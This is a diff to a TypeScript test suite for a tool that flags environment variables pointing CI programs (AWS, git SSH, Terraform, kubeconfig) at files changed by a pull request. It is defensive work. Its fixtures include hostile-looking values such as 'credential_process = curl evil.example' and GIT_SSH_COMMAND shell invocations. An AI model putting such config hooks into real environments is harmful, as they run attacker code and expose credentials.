@@ -1,5 +1,5 @@
 /** Variables that lead a program into files that a pull request may have written. */
-import { chmodSync, realpathSync, symlinkSync } from 'node:fs';
+import { chmodSync, realpathSync, rmSync, symlinkSync } from 'node:fs';
 import { join } from 'node:path';
 import { readableHere } from '../../src/machine/files-here.ts';
 import type { Environment, ReadableFiles } from '../../src/model/ports.ts';
@@ -21,7 +21,11 @@ const BASE = {
   'run/other': '[default]\ncredential_process = /bin/sh ./login.sh\n',
   'run/login.sh': 'echo {}\n',
   'run/hooks': '[core]\nhooksPath = ./hooks.d\n',
+  'run/quoted': '[default]\ncredential_process = "../my scripts/login" --once\n',
+  'run/escaped': '[default]\ncredential_process = ../my\\ scripts/login\n',
+  'run/plan.json': '{"command": "..\\/my scripts\\/login"}\n',
   'scripts/login': '#!/bin/sh\n',
+  'my scripts/login': '#!/bin/sh\n',
   bytes: '\u{FFFD}',
 };
 
@@ -56,7 +60,10 @@ function find(
   });
 }
 
-const CHANGED = { 'conf/config': '[default]\ncredential_process = curl evil.example\n' };
+const CHANGED = {
+  'conf/config': '[default]\ncredential_process = curl evil.example\n',
+  'my scripts/new': 'curl evil.example\n',
+};
 
 describe('a variable that names a changed file of the checkout', () => {
   test.each<[name: string, value: (root: string) => string]>([
@@ -91,6 +98,11 @@ describe('a variable that names a changed file of the checkout', () => {
     ['AWS_CONFIG_FILE', () => '/proc/self/cwd/conf/config'],
     ['GOOGLE_CREDENTIALS', (root) => JSON.stringify({ file: root }).replaceAll('/', '\\/')],
     ['GIT_SSH_COMMAND', (root) => `sh -c 'cd ${root}; ./login'`],
+    ['GIT_SSH_COMMAND', () => "sh '../my scripts/new'"],
+    ['GIT_SSH_COMMAND', () => 'sh ../my\\ scripts/new'],
+    ['TF_CLI_ARGS_init', () => '-plugin-dir=conf'],
+    ['TF_CLI_ARGS', () => '-input=false -plugin-dir conf'],
+    ['TF_CLI_ARGS_init', () => '-backend-config=../conf/config'],
   ])('is named: %s', async (name, value) => {
     const { root } = makeCheckout(CHANGED);
     const environment = { HOME: '/nowhere', CONF: join(root, 'conf') };
@@ -176,6 +188,7 @@ describe('a variable that names a changed file of the checkout', () => {
 });
 
 describe('a place of the checkout', () => {
+  const SPACED = { 'my scripts/login': 'curl' };
   const said = async (value: string, changes: Record<string, string> = {}) =>
     (await find({ XDG_CONFIG_HOME: value }, makeCheckout(changes).root)).join();
 
@@ -195,6 +208,9 @@ describe('a place of the checkout', () => {
     ['is new', '../new', { 'new/config': '' }, '"new/config"'],
     ['names a changed directory', '../run/hooks', { 'run/hooks.d/x': '' }, '"run/hooks.d/x"'],
     ['names a changed script', '../run/other', { 'run/login.sh': 'curl' }, '"run/login.sh"'],
+    ['names one between quotes', '../run/quoted', SPACED, '"my scripts/login"'],
+    ['names one with an escaped blank', '../run/escaped', SPACED, '"my scripts/login"'],
+    ['names one in JSON', '../run/plan.json', SPACED, '"my scripts/login"'],
     ['is no text', '../bytes', {}, '"bytes"'],
   ])('does not count where it %s', async (_, value, changes, named) => {
     expect(await said(value, changes)).toContain(`and ${named} is not as the default branch has`);
@@ -204,6 +220,14 @@ describe('a place of the checkout', () => {
     const { root } = makeCheckout();
     const base = branchWith({ ...BASE, 'conf/gone': '' });
     expect(await find({ XDG_CONFIG_HOME: '../conf' }, root, { base })).toHaveLength(1);
+  });
+
+  test('does not count where it is a link to the same text outside', async () => {
+    const { around, root } = makeCheckout();
+    layIn(around, { config: BASE['kube/a.yaml'] });
+    rmSync(join(root, 'kube/a.yaml'));
+    symlinkSync('../../config', join(root, 'kube/a.yaml'));
+    expect((await find({ KUBECONFIG: '../kube/a.yaml' }, root)).join()).toContain('"kube/a.yaml"');
   });
 
   test('does not count where nothing is there', async () => {
@@ -276,7 +300,25 @@ test.each<[name: string, value: string]>([
   ],
   ['ARM_SKIP_PROVIDER_REGISTRATION', 'true'],
   ['PATH', '/usr/bin:/bin'],
+  // Programs take an empty one for none.
+  ['TF_PLUGIN_CACHE_DIR', ''],
+  ['TF_CLI_CONFIG_FILE', ''],
+  ['TF_CLI_ARGS_plan', '-var-file=main.tfvars -input=false'],
+  ['TF_CLI_ARGS', '-no-color --var-file ../live/main.tfvars'],
 ])('%s=%s leads nowhere', async (name, value) => {
-  const { root } = makeCheckout({ 'live/prod/main.tf': 'new' });
+  const { root } = makeCheckout({ 'live/prod/main.tf': 'new', 'live/main.tfvars': 'new' });
   expect(await find({ [name]: value }, root)).toEqual([]);
 });
+
+test.each([
+  ['alone', (path: string) => path],
+  ['in a list', (path: string) => `/nowhere:${path}`],
+  ['in a command', (path: string) => `ssh -F "${path}"`],
+])(
+  'a path that goes on to have the path of the checkout in it leads nowhere: %s',
+  async (_, of) => {
+    const { root } = makeCheckout();
+    expect(await find({ KUBECONFIG: of(`/mnt${root}/config`) }, root)).toEqual([]);
+    expect(await find({ KUBECONFIG: of(`${root}.tmp/config`) }, root)).toEqual([]);
+  },
+);
